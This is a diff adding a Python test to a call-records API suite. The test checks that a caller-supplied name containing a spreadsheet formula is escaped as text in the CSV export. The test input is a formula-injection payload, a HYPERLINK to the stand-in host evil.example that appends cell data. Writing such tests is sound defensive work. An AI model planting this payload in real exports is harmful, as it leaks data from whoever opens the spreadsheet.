@@ -869,6 +869,26 @@ async def test_the_name_a_carrier_presented_reaches_the_apis(api: Api) -> None:
     assert others.count(NAME) == 1, "the lab's carrier presents no name: the others have none"
 
 
+async def test_a_name_a_spreadsheet_would_run_is_exported_as_text(api: Api) -> None:
+    """A caller chooses the name it presents: in the CSV export a cell that would start a
+    formula is quoted as text; the JSON keeps the name as it came."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Ivan")'
+    tracker = LAB22.tracker()
+    events = with_caller_name(LAB22.events("in_answered"), formula)
+    outputs = [o for t, ev in events for o in tracker.feed(ev, t)]
+    await CallStore(api.pool, "lab").save(outputs)
+    (record,) = [o for o in outputs if isinstance(o, CallRecord)]
+    h = await client(api)
+    assert (await get_json(api, f"/api/v1/calls/{record.callid}", h))["phone_name"] == formula
+    async with api.http.get("/api/v1/calls.csv", headers=h) as resp:
+        assert resp.status == 200
+        header, *rows = list(csv.reader(io.StringIO(await resp.text())))
+    assert header[-1] == "phone_name", "a new column comes last"
+    exported = {row[0]: dict(zip(header, row, strict=True)) for row in rows}[record.callid]
+    assert exported["phone_name"] == "'" + formula
+    assert all(not row[-1].startswith(("=", "+", "-", "@")) for row in rows)
+
+
 # ---------------------------------------------------------------- the document
 
 
